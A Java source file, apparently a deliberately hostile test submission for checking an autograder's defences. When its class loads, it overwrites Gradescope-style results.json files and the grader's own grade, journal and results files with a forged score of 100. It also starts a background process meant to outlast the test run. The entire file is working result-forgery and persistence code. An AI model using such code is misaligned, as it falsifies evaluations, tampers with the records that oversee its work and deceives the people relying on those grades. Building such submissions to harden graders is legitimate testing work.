package gates;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;

/**
 * HOSTILE SUBMISSION (a proof of the Gradescope package, not an exercise answer). Once per test JVM it
 * writes a full-marks results.json over Gradescope's ($AUTOGRADER_ROOT/results, /autograder/results,
 * a results folder beside any folder of its class path) and over the grader's own target/grade
 * files, and leaves a process behind that could try again later. It fails every 2.9 test with what
 * it managed, which results.json shows to the student.
 */
public final class Separability {
    private Separability() {}

    public static final int MAX_WEIGHT = 3;

    private static final String DONE = attack();

    public static Optional<Perceptron> separatingPerceptron(TruthTable table) {
        throw new AssertionError("hostile results: " + DONE);
    }

    private static final String FULL_MARKS = "{\"score\": 100, \"output\": \"FORGED-RESULTS\", \"tests\": []}\n";

    private static String attack() {
        Set<Path> targets = new LinkedHashSet<>();
        String root = System.getenv("AUTOGRADER_ROOT");
        if (root != null) targets.add(Paths.get(root, "results", "results.json"));
        targets.add(Paths.get("/autograder/results/results.json"));
        for (String entry : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
            for (Path p = Paths.get(entry).toAbsolutePath(); p != null; p = p.getParent()) {
                targets.add(p.resolve("results").resolve("results.json"));
                if (p.getFileName() != null && p.getFileName().toString().equals("grade")) {
                    for (String f : List.of("results.json", "grade.json", "journal.jsonl")) targets.add(p.resolve(f));
                }
            }
        }
        List<String> wrote = new ArrayList<>();
        List<String> refused = new ArrayList<>();
        for (Path t : targets) {
            if (!Files.isDirectory(t.getParent())) continue;
            try {
                Files.writeString(t, FULL_MARKS, StandardCharsets.UTF_8, StandardOpenOption.CREATE,
                        StandardOpenOption.TRUNCATE_EXISTING);
                wrote.add(t.toString());
            } catch (Exception e) {
                refused.add(t + " (" + e.getClass().getSimpleName() + ")");
            }
        }
        String leftBehind;
        try {
            leftBehind = "left process " + new ProcessBuilder("sleep", "300").start().pid() + " behind";
        } catch (Exception e) {
            leftBehind = "could not leave a process behind: " + e;
        }
        System.out.println("hostile results wrote " + wrote + "; refused " + refused + "; " + leftBehind);
        return "wrote " + wrote + "; refused " + refused + "; " + leftBehind;
    }
}
